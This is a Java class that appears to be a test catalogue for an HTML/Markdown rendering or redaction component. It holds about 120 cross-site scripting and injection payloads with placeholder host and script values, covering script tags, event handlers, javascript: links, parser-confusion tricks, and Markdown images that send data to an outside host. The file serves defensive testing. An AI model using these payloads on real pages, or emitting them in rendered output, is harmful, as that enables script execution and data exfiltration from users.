package com.modalarmor.redact.render;

import java.util.ArrayList;
import java.util.List;

/**
 * Answers that would run a script or fetch from {@code http://HOST} when a page shows them, one or
 * more of each class of HTML injection. {@code HOST} is replaced by the place that is watched,
 * {@code RUN} by what a script would do.
 */
final class ScriptCatalogue {

  private static final String[] PAYLOADS = {
    // scripts
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script src=http://HOST/s.js></script>",
    "<script src=//HOST/s.js></script>",
    "<script\n>RUN</script\n>",
    "<script/x>RUN</script>",
    "<script type=module>RUN</script>",
    "<script type=\"text/javascript\">RUN",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<<script>RUN//<</script>",
    "</title><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "--><script>RUN</script>",
    "]]><script>RUN</script>",
    "<noscript><p title=\"</noscript><script>RUN</script>\">",
    "<template><script>RUN</script></template>",
    "<plaintext><script>RUN</script>",
    "<xmp><p title=\"</xmp><script>RUN</script>\">",
    // event handlers
    "<img src=x onerror=RUN>",
    "<img src=x onerror=\"RUN\">",
    "<img/src=x/onerror=RUN>",
    "<img src=x onerror=&#82;&#85;&#78;>",
    "<IMG \"\"\"><SCRIPT>RUN</SCRIPT>\">",
    "<img src=\"x` `<script>RUN</script>\"` `>",
    "<body onload=RUN>",
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<video><source onerror=\"RUN\"></video>",
    "<audio src=x onerror=RUN>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<details open ontoggle=RUN>x</details>",
    "<marquee onstart=RUN>x</marquee>",
    "<div style=\"animation:a 1s\" onanimationstart=RUN>x</div><style>@keyframes a{}</style>",
    "<p title='x' onmouseover=RUN autofocus tabindex=1 onfocus=RUN>x</p>",
    "<a href=\"#\" onfocus=RUN autofocus>x</a>",
    "<b title=\"x\" title='y\" onfocus=RUN autofocus tabindex=0'>x</b>",
    "<b title='x\"' onfocus=RUN tabindex=0 autofocus>x</b>",
    // addresses that run
    "<iframe src=\"javascript:RUN\"></iframe>",
    "<iframe srcdoc=\"<script>RUN</script>\"></iframe>",
    "<object data=\"data:text/html,<script>RUN</script>\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9UlVOPjwvc3ZnPg==\">",
    "<a id=auto href=\"javascript:RUN\">x</a>",
    "<a id=auto href=\"java\nscript:RUN\">x</a>",
    "<a id=auto href=\"&#106;avascript:RUN\">x</a>",
    "<a id=auto href=\"javascript&colon;RUN\">x</a>",
    "<a id=auto href=\" \u0001javascript:RUN\">x</a>",
    "<a id=auto href=\"data:text/html,<script>RUN</script>\">x</a>",
    "<form action=\"javascript:RUN\"><button id=auto>x</button></form>",
    "<button id=auto formaction=\"javascript:RUN\">x</button>",
    "<math><a id=auto xlink:href=\"javascript:RUN\">x</a></math>",
    "<svg><a id=auto xlink:href=\"javascript:RUN\"><text>x</text></a></svg>",
    "<meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
    // fetches without a script
    "<img src=http://HOST/a.png>",
    "<img src=//HOST/a.png>",
    "<img srcset=\"http://HOST/a.png 1x\">",
    "<img src=a alt=\"x\" src=http://HOST/b.png>",
    "<picture><source srcset=http://HOST/a.png><img></picture>",
    "<link rel=stylesheet href=http://HOST/a.css>",
    "<link rel=prefetch href=http://HOST/a>",
    "<style>@import url(http://HOST/a.css);</style>",
    "<style>body{background:url(http://HOST/a.png)}</style>",
    "<div style=\"background:url(http://HOST/a.png)\">x</div>",
    "<table background=http://HOST/a.png><tr><td>x</table>",
    "<body background=http://HOST/a.png>",
    "<video poster=http://HOST/a.png></video>",
    "<video src=http://HOST/a.mp4 autoplay></video>",
    "<iframe src=http://HOST/></iframe>",
    "<object data=http://HOST/a></object>",
    "<embed src=http://HOST/a>",
    "<meta http-equiv=refresh content=\"0;url=http://HOST/\">",
    "<base href=http://HOST/><img src=a.png>",
    "<svg><image href=http://HOST/a.png /></svg>",
    "<svg><use href=http://HOST/a.svg#x /></svg>",
    "<input type=image src=http://HOST/a.png>",
    "<frameset><frame src=http://HOST/></frameset>",
    // foreign content and parser confusion
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<svg></p><style><a id=\"</style><img src=x onerror=RUN>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "<svg><foreignObject><iframe srcdoc=\"<script>RUN</script>\"></iframe></foreignObject></svg>",
    "<select><template><img src=x onerror=RUN></template></select>",
    "<!--><img src=x onerror=RUN>-->",
    "<!-- --!><img src=x onerror=RUN> -->",
    "<![CDATA[><img src=x onerror=RUN>]]>",
    "<?xml ?><img src=x onerror=RUN>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"http://HOST/a\">]>",
    "</div></body></html><img src=x onerror=RUN>",
    "<b><p></b><img src=x onerror=RUN></p>",
    "<a<img src=x onerror=RUN>",
    "<b a='>' <img src=x onerror=RUN>",
    "<b a=\"><img src=x onerror=RUN>\">",
    "<b a=`><img src=x onerror=RUN>`>",
    "<b \u0000a><img src=x onerror=RUN>",
    // Markdown around it
    "![x](http://HOST/a.png?q=[DATA])",
    "![x](<http://HOST/a.png>)",
    "![x][r]\n\n[r]: http://HOST/a.png",
    "![r]\n\n[r]: http://HOST/a.png",
    "> [r]: http://HOST/a.png\n\n![x][r]",
    "[![x](http://HOST/a.png)](http://HOST/b)",
    "[x](javascript:RUN)",
    "[x](java&#115;cript:RUN)",
    "[x](javascript&colon;RUN)",
    "[x]\n\n[x]: javascript:RUN",
    "```\n</code></pre><img src=x onerror=RUN>\n```\n<img src=x onerror=RUN>",
    "- a\n  ```\n<img src=x onerror=RUN>\n",
    "- ```\n<img src=x onerror=RUN>\n```\n<img src=x onerror=RUN>",
    "> ```\n<img src=x onerror=RUN>\n```\n<img src=x onerror=RUN>",
    "``` a\n```\n<img src=x onerror=RUN>",
    "~~~ `\n<b>\n~~~\n<img src=x onerror=RUN>",
    "a `b\n- c ` <img src=x onerror=RUN> `",
    "| a |\n|---|\n| `<img src=x onerror=RUN> | b` |",
    "\\`<img src=x onerror=RUN>`",
    "code\r```\r<img src=x onerror=RUN>\r```\r<img src=x onerror=RUN>",
    "```\ncode\r```\r<img src=x onerror=RUN>",
    "<http://HOST/><img src=x onerror=RUN>",
    "    <img src=x onerror=RUN>\n\n<img src=x onerror=RUN>",
  };

  private ScriptCatalogue() {}

  static List<String> payloads(String host, String run) {
    List<String> all = new ArrayList<>();
    for (String payload : PAYLOADS) {
      all.add(payload.replace("HOST", host).replace("RUN", run));
    }
    return all;
  }
}
